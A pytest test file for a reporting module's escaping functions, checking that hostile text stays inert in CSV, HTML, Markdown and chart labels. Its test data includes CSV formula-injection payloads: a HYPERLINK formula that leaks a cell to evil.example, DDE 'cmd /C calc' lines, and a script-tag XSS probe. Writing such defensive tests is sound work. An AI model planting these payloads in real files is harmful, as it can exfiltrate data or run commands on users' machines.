"""Attacker-controlled text stays inert: CSV formulas, HTML, Markdown and chart math text."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from plg_bridge.report.escape import chart_label, csv_cell, csv_frame, html_text, markdown_text, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Acme", "a=b", "", "-3", "+1.5e3", ".5", "-0.25", 42, -7, 1.5, None])
def test_text_that_is_no_formula_and_numbers_stay(value):
    assert csv_cell(value) == value


def test_csv_of_a_frame_neutralises_text_and_keeps_numbers_numbers():
    frame = pd.DataFrame(
        {
            "org_id": ["o1", "o2", "o3"],
            "org_name": [HOSTILE[0], "Acme", None],
            "pql_score": [-5, 80, 0],
            "ratio": [-0.5, 1.0, float("nan")],
        }
    ).astype({"org_name": "string"})
    text = to_csv(frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["org_name"] == "'" + HOSTILE[0]
    assert rows[1]["org_name"] == "Acme" and rows[2]["org_name"] == ""
    assert [r["pql_score"] for r in rows] == ["-5", "80", "0"]  # a negative number is still a number
    assert rows[0]["ratio"] == "-0.5"
    assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
    back = pd.read_csv(io.StringIO(text))
    assert back["pql_score"].dtype.kind == "i" and back["ratio"].dtype.kind == "f"
    assert frame["org_name"].iloc[0] == HOSTILE[0], "the caller's frame is left alone"
    assert csv_frame(frame)["pql_score"].tolist() == [-5, 80, 0]


def test_html_text_shows_markup_as_text():
    assert html_text('<a href="http://evil.example">x</a> & co') == (
        "&lt;a href=&quot;http://evil.example&quot;&gt;x&lt;/a&gt; &amp; co"
    )
    assert html_text(None) == ""


def _render(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)


@pytest.mark.parametrize(
    "text",
    [
        '<a href="http://evil.example">click</a>',
        "<script>alert(1)</script>",
        "[free money](http://evil.example)",
        "![x](http://evil.example/p.png)",
        "**bold** _em_ `code` ~~gone~~",
        "a_b_c _x_ __y__ x__z__ 1_000",
        "# heading",
        "1. listed",
        "- listed",
        r"$\foo$ & <b>",
    ],
)
def test_markdown_text_renders_literally(text):
    cell = markdown_text(text)
    html = _render(f"| name |\n|---|\n| {cell} |\n")
    inner = html.split("<td>")[1].split("</td>")[0]
    assert "<" not in inner.replace("&lt;", ""), inner  # no tag of any kind inside the cell
    import html as html_lib

    assert html_lib.unescape(inner) == text
    paragraph = _render(cell)  # also outside a table, at the start of a line
    assert html_lib.unescape(paragraph.removeprefix("<p>").removesuffix("</p>\n")) == text


def test_markdown_text_leaves_identifiers_readable():
    assert markdown_text("org_0001") == "org_0001"  # an underscore inside a word cannot emphasise
    assert markdown_text("_x_ and __y__") == r"\_x\_ and \_\_y\_\_"
    assert "<em>" not in _render(markdown_text("snake_case_name and _lead_"))


def test_markdown_text_is_one_line_and_keeps_table_columns():
    cell = markdown_text("a | b\nc")
    assert "\n" not in cell
    html = _render(f"| x | y |\n|---|---|\n| {cell} | 2 |\n")
    assert html.count("<td>") == 2


def test_chart_label_is_not_math_text(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.bar([chart_label(r"$\foo$"), chart_label("a $5 $bar")], [1, 2])
    fig.savefig(tmp_path / "c.png")  # raw r"$\foo$" raises a mathtext ParseException here
    plt.close(fig)
    with pytest.raises(ValueError):
        fig2, ax2 = plt.subplots()
        ax2.set_title(r"$\foo$")
        try:
            fig2.savefig(tmp_path / "d.png")
        finally:
            plt.close(fig2)
